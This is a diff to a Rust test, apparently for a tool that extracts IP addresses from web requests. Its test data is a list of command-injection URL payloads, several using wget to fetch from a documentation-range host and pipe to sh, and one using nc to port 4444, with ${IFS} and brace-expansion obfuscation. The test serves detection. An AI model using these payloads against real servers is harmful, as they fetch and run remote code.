@@ -153,12 +153,19 @@ fn addresses_are_found_in_payloads_that_name_no_scheme() {
         "/cgi-bin/;wget${IFS}203.0.113.66/x;sh",
         "/cgi-bin/;wget$%7bIFS%7d203.0.113.66/x",
         "/a%7Cnc%20203.0.113.66%204444",
+        "/cgi-bin/;wget%20203.0.113.66/x",
+        "/cgi-bin/;{wget,203.0.113.66}",
         "/%60ping%20203.0.113.66%60?b=c",
         "/shell?cd+/tmp;wget+203.0.113.66/x",
     ] {
         expect(&request(url, "-", "-"), &[from, to]);
     }
-    for url in ["/whois/203.0.113.66", "/a/203.0.113.66?q=203.0.113.67", "/"] {
+    for url in [
+        "/whois/203.0.113.66",
+        "/a;v=203.0.113.66/x",
+        "/a/203.0.113.66?q=203.0.113.67",
+        "/",
+    ] {
         expect(&request(url, "-", "function() { 203.0.113.68"), &[from]);
     }
 }
